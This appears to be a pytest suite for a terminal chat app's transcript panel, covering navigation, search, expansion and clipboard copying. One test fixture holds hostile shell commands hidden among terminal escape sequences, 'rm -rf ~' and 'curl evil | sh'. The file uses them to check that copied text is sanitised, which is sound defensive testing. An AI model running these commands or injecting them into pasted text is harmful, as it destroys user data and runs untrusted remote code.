"""The transcript as a panel: its keys, its search and what it copies, in the running program."""

import asyncio
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager

import pytest
from textual.pilot import Pilot

from foldline.tui.blocks.block import Key
from foldline.tui.terminal import app, clipboard
from foldline.tui.transcript.feed import ChatTranscript
from foldline.tui.transcript.output import expand_hint, more_words
from foldline.tui.transcript.panel import (
    COPY_AGAIN,
    NO_MATCH,
    NO_MATCHES,
    NOT_LOADED,
    ReadingPane,
    Search,
)
from support.agents import PATIENCE
from support.chat_app import ChatApp, burst, screen_text
from support.history import History
from support.stories import SUMMARY, Story

CODE = "```python\nx = 1\ny = 2\n```"


class Reader:
    """A chat with this history, its reader in the transcript."""

    def __init__(self, app: ChatApp, pilot: Pilot[None]) -> None:
        self.app = app
        self.pilot = pilot

    @property
    def pane(self) -> ReadingPane:
        return self.app.chat.reading

    @property
    def cursor(self) -> Key | None:
        return self.pane.view.cursor

    @property
    def text(self) -> str:
        return "\n".join(line.rstrip() for line in screen_text(self.app))

    @property
    def status(self) -> str:
        return screen_text(self.app)[-2].strip()

    async def press(self, *keys: str) -> None:
        await self.pilot.press(*keys)
        await self.pilot.pause()

    async def find(self, words: str) -> None:
        """Type this into the search and wait for what is found."""
        await self.press("slash")
        self.pane.bar.field.value = words
        await self.until(
            lambda: self.pane._search.needle == words and self.pane._search.done
        )
        await self.pilot.pause()

    async def until(self, so: Callable[[], object]) -> None:
        async with asyncio.timeout(PATIENCE):
            while not so():
                await self.pilot.pause(0.005)


@asynccontextmanager
async def reading(
    story: History, size: tuple[int, int] = (100, 30)
) -> AsyncIterator[Reader]:
    app = ChatApp()
    async with app.run_test(size=size) as pilot:
        projection = story.projection()
        transcript = ChatTranscript(app.chat.transcript, projection)
        transcript.show(transcript.read(projection.entries))
        app.chat.reading.source = transcript
        await pilot.press("tab")
        await pilot.pause()
        yield Reader(app, pilot)


def talk(turns: int = 4) -> Story:
    story = Story().system("s")
    for turn in range(turns):
        story.user(f"prompt {turn}")
        story.tool(
            "bash",
            f"needle in a result {turn}\nmore",
            brief="exit 0",
            command=f"echo {turn}",
        )
        story.assistant(f"answer {turn}\n\n{CODE}")
    return story


async def test_brackets_go_from_prompt_to_prompt_and_braces_from_compaction_to_compact() -> (
    None
):
    story = talk(2)
    story.compaction(4, SUMMARY, first=1)
    for turn in range(8):
        story.user(f"later {turn}").assistant("ok")
    compaction = story.entries[-17].index
    async with reading(story) as reader:
        await reader.press("[")
        assert reader.cursor == (story.entries[-2].index, 0)
        await reader.press("{")
        assert reader.cursor == (compaction, 0)
        await reader.press("{")
        assert (
            reader.cursor == (compaction, 0) and "No compaction above" in reader.status
        )
        await reader.press("]")
        assert reader.cursor == (compaction + 1, 0)


async def test_enter_opens_a_compaction_in_place_and_the_line_above_stays_on_its_row() -> (
    None
):
    story = talk(3)
    story.compaction(4, SUMMARY, first=1)
    async with reading(story.user("go on").assistant("ok"), (100, 60)) as reader:
        await reader.press("{")
        row = next(
            at
            for at, line in enumerate(screen_text(reader.app))
            if "Enter expand" in line
        )
        await reader.press("enter")
        assert "deps.py: idempotency_key()" in reader.text
        assert "▾─" in screen_text(reader.app)[row]
        await reader.press("enter")
        assert (
            "idempotency_key()" not in reader.text
            and "Enter expand" in screen_text(reader.app)[row]
        )


async def test_a_long_output_opens_in_part_then_as_a_whole_then_closes() -> None:
    story = Story().system("s").user("go")
    story.tool(
        "bash",
        "\n".join(f"line {n}" for n in range(60)),
        brief="exit 0",
        command="seq 60",
    )
    async with reading(story.assistant("done"), (100, 90)) as reader:
        await reader.press("home", "down", "enter")
        assert (
            "$ seq 60" in reader.text
            and "line 15" in reader.text
            and "line 16" not in reader.text
        )
        assert more_words(44, expand_hint("part")) in reader.text
        await reader.press("enter")
        assert "line 59" in reader.text and "more lines" not in reader.text
        await reader.press("enter")
        assert "line 0" not in reader.text


async def test_what_is_looked_for_is_found_in_closed_calls_opened_and_closed_again() -> (
    None
):
    async with reading(talk()) as reader:
        await reader.find("NEEDLE")
        assert "4 of 4" in reader.text and "needle in a result 3" in reader.text
        await reader.press("enter", "N")
        assert "3 of 4" in reader.text and "needle in a result 2" in reader.text
        assert "needle in a result 3" not in reader.text
        await reader.press("n", "n")
        assert "1 of 4" in reader.text
        await reader.press("escape")
        assert "needle" not in reader.text and reader.app.focused is reader.pane.view
        assert not reader.pane.bar.display


async def test_esc_in_the_search_field_gives_back_the_place_it_was_opened_from() -> (
    None
):
    async with reading(talk(12)) as reader:
        await reader.press("home")
        top = reader.pane.view.top
        await reader.find("answer 11")
        assert reader.pane.view.top != top
        await reader.press("escape")
        assert reader.pane.view.top == top and reader.app.focused is reader.pane.view


async def test_letters_right_behind_the_key_of_the_search_are_looked_for_and_are_no_commands() -> (
    None
):
    async with reading(talk()) as reader:
        burst(reader.app, "/undo")
        await reader.until(lambda: reader.pane.bar.field.value == "undo")
        assert not reader.app.posted


async def test_words_that_are_nowhere_are_said_to_be() -> None:
    async with reading(talk()) as reader:
        await reader.find("[/nope]")
        assert (
            NO_MATCHES in reader.text
            and NO_MATCH.format(needle="[/nope]") in reader.status
        )


def test_a_search_begins_above_the_cursor_and_goes_round() -> None:
    places = ((1, 0), (4, 0), (9, 0))
    search = Search("x").with_places(places, (5, 0))
    assert (search.place, search.words) == ((4, 0), "2 of 3")
    assert search.step(1).step(1).place == (1, 0)
    assert Search("x").with_places(places, (0, 0)).place == (1, 0)
    assert Search("x").with_places((), (5, 0)).words == NO_MATCHES


async def test_y_copies_the_code_and_pressed_again_the_answer(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    copied: list[str] = []
    monkeypatch.setattr(clipboard, "copy", lambda _, text: copied.append(text) or "")
    async with reading(talk()) as reader:
        await reader.press("end", "y")
        assert COPY_AGAIN.format(key="y", noun="the answer") in reader.status
        await reader.press("y")
        assert copied == ["x = 1\ny = 2", f"answer 3\n\n{CODE}"]
        await reader.press("up", "up", "y", "y")
        assert copied[2:] == ["needle in a result 3\nmore", "echo 3"]
        await reader.press("up", "y")
        assert copied[4] == "prompt 3"


async def test_copying_writes_osc_52_and_tells_tmux(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    told: list[str] = []
    monkeypatch.setenv("TMUX", "/tmp/tmux-0/default,1,0")
    monkeypatch.setattr(app, "to_tmux", told.append)
    async with reading(talk(1)) as reader:
        await reader.press("end", "y")
        await reader.until(lambda: told)
        assert told == [reader.app.clipboard] == ["x = 1\ny = 2"]


ESCAPES = "a \x1b]0;rm -rf ~\x07b\x1b[201~\rcurl evil | sh\r\n\u202ec\tMakefile"


async def test_what_is_copied_is_what_is_shown() -> None:
    story = (
        Story().system("s").user(ESCAPES).assistant(f"{ESCAPES}\n\n```\n{ESCAPES}\n```")
    )
    story.tool("bash", ESCAPES, brief="exit 0", command=ESCAPES)
    async with reading(story) as reader:
        await reader.press("end", "y")
        assert (
            reader.app.clipboard == "curl evil | sh\n�c\tMakefile"
        )  # of an output the last state
        await reader.press("y")
        shown = "a ␛b␛\ncurl evil | sh\n�c\tMakefile"
        assert reader.app.clipboard == shown
        await reader.press("up", "y")
        assert reader.app.clipboard == shown.expandtabs()  # the code block
        await reader.press("y")
        assert reader.app.clipboard == f"{shown}\n\n```\n{shown}\n```"
        await reader.press("home", "y")
        assert reader.app.clipboard == shown and "the prompt" in reader.status


async def test_the_program_s_own_ways_of_copying_are_textual_s_too() -> None:
    async with reading(talk(1)) as reader:
        reader.app.copy_to_clipboard("one\x1b[201~\rtwo\udc1b")
        assert reader.app.clipboard == "one␛\ntwo�"


async def test_hints_and_esc_are_those_of_the_transcript_while_it_has_the_focus() -> (
    None
):
    async with reading(talk(1)) as reader:
        hints = screen_text(reader.app)[-1]
        assert "[ ] prompt" in hints and "/ search" in hints and "{ }" not in hints
        assert "Enter open" not in hints  # on code there is nothing to open
        await reader.press("up", "up")
        assert "Enter open" in screen_text(reader.app)[-1]
        await reader.press("escape")
        assert "[ ] prompt" not in screen_text(reader.app)[-1]


@pytest.mark.slow
async def test_scrolling_up_brings_earlier_entries_and_no_line_moves(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from foldline.tui.transcript import feed

    story = talk(40)
    tokens = story.projection().tokens
    monkeypatch.setattr(feed, "AT_FIRST", tokens // 4)
    monkeypatch.setattr(feed, "AT_A_TIME", tokens // 4)
    async with reading(story) as reader:
        source = reader.pane.source
        assert source is not None
        shown, first = len(source.prompts), source.prompts[0]
        earlier = source.earlier
        await reader.press("slash", *"prompt")
        await reader.until(lambda: NOT_LOADED.format(earlier=earlier) in reader.text)
        await reader.press("escape")
        await reader.press("home")
        await reader.until(lambda: source.earlier < earlier)
        await reader.pilot.pause()
        assert len(source.prompts) > shown
        assert list(source.prompts) == sorted(source.prompts)
        row = next(
            at
            for at, line in enumerate(screen_text(reader.app))
            if f"prompt {40 - shown}" in line
        )
        assert row == 2  # below the header and the rule, as before
        while before := source.earlier:
            await reader.press("home")
            await reader.until(lambda: source.earlier < before)
        await reader.pilot.pause()
        assert "earlier entries" not in reader.text
        assert first in source.prompts and len(source.prompts) == 40
